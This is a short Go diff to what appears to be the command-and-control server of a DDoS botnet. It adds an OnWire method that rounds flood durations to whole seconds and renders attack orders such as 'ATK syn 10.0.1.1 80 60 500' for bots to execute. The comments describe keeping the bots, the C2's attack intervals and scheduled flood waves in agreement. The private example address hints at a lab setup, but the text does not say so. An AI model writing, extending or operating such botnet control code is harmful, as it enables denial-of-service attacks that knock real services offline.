@@ -65,10 +65,21 @@ type Command struct {
 	PPS      int
 }
 
+// OnWire returns the command as the bots will execute it. The wire form
+// carries whole seconds, so Duration is rounded up to the next second, and
+// to one second at least: a sub-second order floods for a second rather
+// than being told to flood for none. Everything that needs to agree with
+// the bots — the wire line, the C2's labelled attack interval, the spacing
+// of scheduled waves — goes through here.
+func (c Command) OnWire() Command {
+	c.Duration = max(time.Second, (c.Duration + time.Second - 1).Truncate(time.Second))
+	return c
+}
+
 // String renders the C2 wire form ("ATK syn 10.0.1.1 80 60 500").
 func (c Command) String() string {
 	return fmt.Sprintf("ATK %s %s %d %d %d",
-		c.Type, c.Target, c.Port, int(c.Duration/time.Second), c.PPS)
+		c.Type, c.Target, c.Port, int(c.OnWire().Duration/time.Second), c.PPS)
 }
 
 // ParseCommand parses the C2 wire form.
